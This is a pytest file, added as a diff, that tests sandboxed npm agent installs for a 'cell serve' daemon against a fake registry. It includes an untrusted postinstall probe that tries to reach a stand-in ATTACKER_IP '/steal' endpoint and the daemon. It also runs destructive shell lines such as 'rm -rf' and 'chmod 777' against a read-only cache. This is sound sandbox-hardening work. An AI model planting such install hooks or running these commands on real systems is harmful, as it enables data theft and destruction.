@@ -1,0 +1,387 @@
+"""`cell serve`: real agent installs from npm (POST /cells/{id}/v1/agents/
+{agent}/install and the ACP proxy's lazy install), hermetic: a fake npm
+registry on 198.18.42.1 serves the codex adapter's pinned name and version
+(whose native package's binary is a shell script), the daemon runs with
+--agent-registry pointing at it.
+
+The attacks: the package's postinstall script (untrusted code, run in the
+install cell) tries to reach another address and the daemon; code in a cell
+tries to write the host-wide cache; a failing install must leave nothing.
+One test installs the real codex adapter from registry.npmjs.org (release
+stage only).
+"""
+import base64
+import gzip
+import hashlib
+import http.server
+import io
+import json
+import os
+import subprocess
+import tarfile
+import threading
+import urllib.parse
+
+import pytest
+
+import daemon as dm
+import netfake
+from daemon import assert_problem, make_tenant_token
+
+NET = netfake.claim("198.18.42", "test_agent_install.py")
+REGISTRY_IP, ATTACKER_IP = NET + ".1", NET + ".2"
+ADAPTER, NATIVE, VERSION = "@zed-industries/codex-acp", "@zed-industries/codex-acp-linux-x64", "0.16.0"
+LAUNCHER = "/root/.local/share/sandbox-agent/bin/agent_processes/codex-acp"
+PI_LAUNCHER = "/root/.local/share/sandbox-agent/bin/agent_processes/pi-acp"
+
+# The native package's "binary": a one-shot ACP agent answering the first
+# request with its own name and arguments.
+FAKE_BIN = b"""#!/bin/sh
+if [ "$1" = "--help" ]; then echo "fake codex-acp help"; exit 0; fi
+read -r line
+id=$(printf '%s' "$line" | sed -n 's/.*"id":\\([0-9]*\\).*/\\1/p')
+printf '{"jsonrpc":"2.0","id":%s,"result":{"agent":"fake-codex-acp"}}\\n' "${id:-1}"
+sleep 30
+"""
+
+# postinstall: untrusted code in the install cell; records what it reached.
+PROBE_JS = b"""
+const http = require('http'), fs = require('fs');
+const targets = JSON.parse(fs.readFileSync(__dirname + '/targets.json'));
+const out = {};
+let left = Object.keys(targets).length;
+for (const [name, url] of Object.entries(targets)) {
+  let settled = false;
+  const done = (r) => { if (settled) return; settled = true; out[name] = r;
+    if (--left === 0) fs.writeFileSync(__dirname + '/probe.json', JSON.stringify(out)); };
+  const req = http.get(url, { timeout: 4000 }, (res) => { res.resume(); done('status ' + res.statusCode); });
+  req.on('error', (e) => done('error ' + e.code));
+  req.on('timeout', () => { req.destroy(); done('timeout'); });
+}
+"""
+
+
+def tarball(files):
+    """A package tarball: {path under package/: (bytes, mode)}."""
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w") as tar:
+        for path, (data, mode) in sorted(files.items()):
+            ti = tarfile.TarInfo("package/" + path)
+            ti.size, ti.mode = len(data), mode
+            tar.addfile(ti, io.BytesIO(data))
+    return gzip.compress(raw.getvalue(), mtime=0)
+
+
+class Registry:
+    """Packuments and tarballs; records every GET."""
+
+    def __init__(self, base):
+        self.base, self.docs, self.tarballs, self.seen, self.lock = base, {}, {}, [], threading.Lock()
+
+    def add(self, name, version, pkg, files):
+        pkg = dict(pkg, name=name, version=version)
+        files = dict(files)
+        files["package.json"] = (json.dumps(pkg).encode(), 0o644)
+        tgz = tarball(files)
+        fname = "%s-%s.tgz" % (name.split("/")[-1], version)
+        path = "/%s/-/%s" % (name, fname)
+        self.tarballs[path] = tgz
+        integrity = "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
+        vdoc = dict(pkg, dist={"tarball": self.base + path.lstrip("/"), "integrity": integrity,
+                               "shasum": hashlib.sha1(tgz).hexdigest()})
+        self.docs[name] = {"name": name, "dist-tags": {"latest": version}, "versions": {version: vdoc}}
+
+    def fetches(self, suffix):
+        with self.lock:
+            return sum(1 for p in self.seen if p.endswith(suffix))
+
+    def handler(self):
+        reg = self
+
+        class H(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *a):
+                pass
+
+            def do_GET(self):
+                path = urllib.parse.unquote(self.path.split("?")[0])
+                with reg.lock:
+                    reg.seen.append(path)
+                if path in reg.tarballs:
+                    body, ctype = reg.tarballs[path], "application/octet-stream"
+                elif path.lstrip("/") in reg.docs:
+                    body, ctype = json.dumps(reg.docs[path.lstrip("/")]).encode(), "application/json"
+                else:
+                    self.send_response(404)
+                    self.send_header("Content-Type", "application/json")
+                    body = b'{"error":"Not found"}'
+                    self.send_header("Content-Length", str(len(body)))
+                    self.end_headers()
+                    self.wfile.write(body)
+                    return
+                self.send_response(200)
+                self.send_header("Content-Type", ctype)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+        return H
+
+
+class Seen(http.server.BaseHTTPRequestHandler):
+    def log_message(self, *a):
+        pass
+
+    def do_GET(self):
+        self.server.seen.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"ok")
+
+
+@pytest.fixture(scope="module")
+def env(tmp_path_factory):
+    if os.geteuid() != 0:
+        pytest.skip("cell serve tests must run as root")
+    net = netfake.Net([REGISTRY_IP, ATTACKER_IP]).up()
+    try:
+        reg_srv = net.serve(netfake.HTTPServer((REGISTRY_IP, 0), http.server.BaseHTTPRequestHandler))
+        port = reg_srv.server_address[1]
+        reg = Registry("http://%s:%d/" % (REGISTRY_IP, port))
+        reg_srv.RequestHandlerClass = reg.handler()
+        attacker = net.serve(netfake.HTTPServer((ATTACKER_IP, 0), Seen))
+        dport = dm.free_port()
+        targets = {"registry": reg.base + ADAPTER.replace("/", "%2f"),
+                   "attacker": "http://%s:%d/steal" % (ATTACKER_IP, attacker.server_address[1]),
+                   "daemon": "http://127.0.0.1:%d/v1/health" % dport,
+                   "daemon_on_registry_ip": "http://%s:%d/v1/health" % (REGISTRY_IP, dport)}
+        reg.add(ADAPTER, VERSION, {"bin": {"codex-acp": "bin/codex-acp.js"},
+                                   "optionalDependencies": {NATIVE: VERSION}},
+                {"bin/codex-acp.js": (b"#!/usr/bin/env node\nconsole.log('wrapper')\n", 0o755)})
+        reg.add(NATIVE, VERSION, {"scripts": {"postinstall": "node probe.js"}},
+                {"bin/codex-acp": (FAKE_BIN, 0o777), "probe.js": (PROBE_JS, 0o644),
+                 "targets.json": (json.dumps(targets).encode(), 0o644)})
+        state = tmp_path_factory.mktemp("agentinstall")
+        dd = dm.Daemon(state, ["--agent-registry", reg.base], port=dport)
+        dd.start()
+        try:
+            yield dd, reg, attacker
+        finally:
+            try:
+                dd.stop()
+            finally:
+                dd.check_sanitizer()
+    finally:
+        net.down()
+
+
+@pytest.fixture(scope="module")
+def admin(env):
+    return env[0].client()
+
+
+def new_cell(client):
+    r = client.post("/v1/cells", {"resources": {"memory": "256M"}})
+    assert r.status == 201, r
+    return r.body["id"]
+
+
+def sh(client, cid, script):
+    r = client.post("/cells/%s/v1/processes/run" % cid, {"command": "sh", "args": ["-c", script]})
+    assert r.status == 200, r
+    return r.body
+
+
+def install(client, cid, agent="codex", body=None):
+    return client.post("/cells/%s/v1/agents/%s/install" % (cid, agent), body or {}, timeout=300)
+
+
+def cache_dirs(dd, prefix):
+    root = os.path.join(dd.state, "agents")
+    return sorted(n for n in os.listdir(root) if n.startswith(prefix))
+
+
+@pytest.fixture(scope="module")
+def cells(admin):
+    """Two cells of two tenants installing codex at the same time."""
+    tok, _ = make_tenant_token(admin, dm.uniq("inst"))
+    other = admin.with_token(tok)
+    a, b = new_cell(admin), new_cell(other)
+    yield (admin, a), (other, b)
+    admin.delete("/v1/cells/%s" % a)
+    other.delete("/v1/cells/%s" % b)
+
+
+def test_concurrent_installs_run_npm_once(env, cells):
+    dd, reg, _ = env
+    out = [None, None]
+
+    def go(i):
+        client, cid = cells[i]
+        out[i] = install(client, cid)
+
+    threads = [threading.Thread(target=go, args=(i,)) for i in range(2)]
+    [t.start() for t in threads]
+    [t.join(300) for t in threads]
+    for r in out:
+        assert r is not None and r.status == 200, json.dumps(r.body, indent=1)
+        assert r.body["already_installed"] is False
+        art = r.body["artifacts"][0]
+        assert art == {"kind": "agent_process", "path": LAUNCHER, "source": "npm", "version": VERSION}, art
+    # One npm run: each tarball fetched once, one cache dir.
+    assert reg.fetches("codex-acp-linux-x64-0.16.0.tgz") == 1, reg.seen
+    assert reg.fetches("codex-acp-0.16.0.tgz") == 1, reg.seen
+    assert len(cache_dirs(dd, "codex-0.16.0-")) == 1
+    with open(os.path.join(dd.state, "audit.log")) as f:
+        recs = [json.loads(line) for line in f if '"agent_install"' in line]
+    assert sorted(r["npm"] for r in recs if r["agent"] == "codex") == [False, True], recs
+
+
+def test_launcher_runs_the_cached_binary(env, cells):
+    dd, _, _ = env
+    for client, cid in cells:
+        r = client.get("/cells/%s/v1/agents/codex" % cid, query={"config": "true"})
+        assert r.status == 200 and r.body["installed"] is True, r
+        assert r.body["version"] == VERSION
+        key = cache_dirs(dd, "codex-0.16.0-")[0]
+        assert r.body["path"] == "/opt/cell-agents/%s/node_modules/%s/bin/codex-acp" % (key, NATIVE)
+        out = sh(client, cid, "%s --help" % LAUNCHER)
+        assert out["exitCode"] == 0 and "fake codex-acp help" in out["stdout"], out
+
+
+def test_cache_is_read_only_in_cells_and_root_owned(env, cells):
+    dd, _, _ = env
+    key = cache_dirs(dd, "codex-0.16.0-")[0]
+    client, cid = cells[1]
+    # As the cell's root: the cache is a read-only bind.
+    target = "/opt/cell-agents/%s/node_modules/%s/bin/codex-acp" % (key, NATIVE)
+    for script in ("echo evil > %s" % target, "touch /opt/cell-agents/%s/new" % key,
+                   "mkdir /opt/cell-agents/planted", "rm -rf /opt/cell-agents/%s" % key,
+                   "chmod 777 %s" % target):
+        out = sh(client, cid, script)
+        assert out["exitCode"] != 0 and "Read-only file system" in out["stderr"], (script, out)
+    # On the host: root-owned, no group/other write (the package's binary
+    # came as 0777; a setuid bit cannot even be created in a cell).
+    root = os.path.join(dd.state, "agents", key)
+    for dirpath, dirnames, filenames in os.walk(root):
+        for n in dirnames + filenames:
+            st = os.lstat(os.path.join(dirpath, n))
+            assert st.st_uid == 0 and st.st_gid == 0, (n, st)
+            assert st.st_mode & 0o7022 == 0 or os.path.islink(os.path.join(dirpath, n)), (n, oct(st.st_mode))
+    manifest = json.load(open(os.path.join(root, ".cell-manifest.json")))
+    assert manifest["requested"] == ["%s@%s" % (ADAPTER, VERSION)]
+    assert manifest["packages"][NATIVE]["integrity"].startswith("sha512-")
+
+
+def test_postinstall_reaches_only_the_registry(env, cells):
+    dd, _, attacker = env
+    key = cache_dirs(dd, "codex-0.16.0-")[0]
+    probe = json.load(open(os.path.join(dd.state, "agents", key, "node_modules", NATIVE, "probe.json")))
+    assert probe["registry"] == "status 200", probe       # the install cell's network works
+    for name in ("attacker", "daemon", "daemon_on_registry_ip"):
+        assert not probe[name].startswith("status"), probe
+    assert attacker.seen == [], attacker.seen
+
+
+def test_second_install_is_a_no_op(env, cells):
+    _, reg, _ = env
+    before = len(reg.seen)
+    client, cid = cells[0]
+    r = install(client, cid)
+    assert r.status == 200 and r.body["already_installed"] is True, r
+    assert len(reg.seen) == before
+
+
+def test_lazy_install_through_acp_spawns_the_cached_agent(env, admin):
+    _, reg, _ = env
+    before = reg.fetches(".tgz")
+    cid = new_cell(admin)
+    try:
+        r = admin.post("/cells/%s/v1/acp/s1" % cid, {"jsonrpc": "2.0", "id": 7, "method": "initialize",
+                                                        "params": {}}, query={"agent": "codex"}, timeout=120)
+        assert r.status == 200, r
+        assert r.body["result"] == {"agent": "fake-codex-acp"}, r
+        assert reg.fetches(".tgz") == before      # from the cache
+        admin.delete("/cells/%s/v1/acp/s1" % cid)
+    finally:
+        admin.delete("/v1/cells/%s" % cid)
+
+
+def test_reinstall_streams_progress_and_a_result(env, cells):
+    dd, reg, _ = env
+    before = reg.fetches("codex-acp-linux-x64-0.16.0.tgz")
+    client, cid = cells[0]
+    c = client.conn(300)
+    c.request("POST", "/cells/%s/v1/agents/codex/install" % cid, body=b'{"reinstall": true}',
+              headers=client.headers_for({"Accept": "text/event-stream", "Content-Type": "application/json"}))
+    resp = c.getresponse()
+    assert resp.status == 200 and resp.getheader("Content-Type") == "text/event-stream"
+    events = dm.sse_events(resp, limit_s=300)
+    c.close()
+    kinds = [e for e, _ in events]
+    assert kinds[-1] == "result" and kinds.count("result") == 1, events
+    assert "progress" in kinds, events
+    assert any("codex-acp-linux-x64" in json.loads(d)["line"] for e, d in events if e == "progress"), events
+    result = json.loads(events[-1][1])
+    assert result["already_installed"] is False and result["artifacts"][0]["version"] == VERSION, result
+    assert reg.fetches("codex-acp-linux-x64-0.16.0.tgz") == before + 1
+    assert len(cache_dirs(dd, "codex-0.16.0-")) == 1
+    assert os.listdir(os.path.join(dd.state, "agents-staging")) == []
+
+
+def test_failing_install_leaves_nothing_and_says_why(env, cells):
+    dd, _, _ = env
+    client, cid = cells[1]
+    r = install(client, cid, "pi")          # the fake registry has no pi-acp
+    assert_problem(r, 502, "install_failed")
+    assert any("404" in line for line in r.body["details"]["stderr"]), r
+    assert r.body["details"]["exitCode"] != 0
+    assert cache_dirs(dd, "pi-") == []
+    assert os.listdir(os.path.join(dd.state, "agents-staging")) == []
+    out = sh(client, cid, "test -e %s" % PI_LAUNCHER)
+    assert out["exitCode"] != 0
+    r = client.get("/cells/%s/v1/agents/pi" % cid)
+    assert r.body["installed"] is False
+    # The same as SSE: one result event with the problem.
+    c = client.conn(300)
+    c.request("POST", "/cells/%s/v1/agents/pi/install" % cid, body=b"{}",
+              headers=client.headers_for({"Accept": "text/event-stream", "Content-Type": "application/json"}))
+    events = dm.sse_events(c.getresponse(), limit_s=300)
+    c.close()
+    assert events[-1][0] == "result", events
+    assert json.loads(events[-1][1])["status"] == 502
+
+
+def test_agents_without_an_npm_adapter_and_bad_input(env, cells):
+    client, cid = cells[0]
+    for agent in ("amp", "cursor"):
+        r = install(client, cid, agent)
+        assert_problem(r, 501, "install_failed")
+        assert "npm" in r.body["detail"], r
+    assert_problem(install(client, cid, "nope"), 400, "unsupported_agent")
+    assert_problem(install(client, cid, "codex", {"reinstall": "yes"}), 422)
+    # Another tenant's cell: not found.
+    other, other_cid = cells[1]
+    r = other.post("/cells/%s/v1/agents/codex/install" % cid, {})
+    assert r.status == 404, r
+
+
+def test_bad_registry_flag_refused(tmp_path):
+    for url in ("ftp://example.org/", "not a url", "http://user@host/"):
+        p = subprocess.run([dm.CELL_BIN, "--state", str(tmp_path / "s"), "serve", "--listen", "",
+                            "--agent-registry", url], capture_output=True, text=True, timeout=30)
+        assert p.returncode != 0 and "--agent-registry" in p.stderr, (url, p.stderr)
+
+
+@pytest.mark.skipif(dm.ASAN or dm.TSAN, reason="real npm install: release stage only")
+def test_real_codex_adapter_from_npmjs(tmp_path):
+    with dm.served(tmp_path / "real") as dd:
+        admin = dd.client()
+        cid = new_cell(admin)
+        r = install(admin, cid)
+        if r.status == 502 and any("ENOTFOUND" in l or "EAI_AGAIN" in l for l in r.body["details"]["stderr"]):
+            pytest.skip("registry.npmjs.org is not reachable from here")
+        assert r.status == 200, r
+        out = sh(admin, cid, "%s --help" % LAUNCHER)
+        assert out["exitCode"] == 0 and "Usage: codex-acp" in out["stdout"], out
+        admin.delete("/v1/cells/%s" % cid)
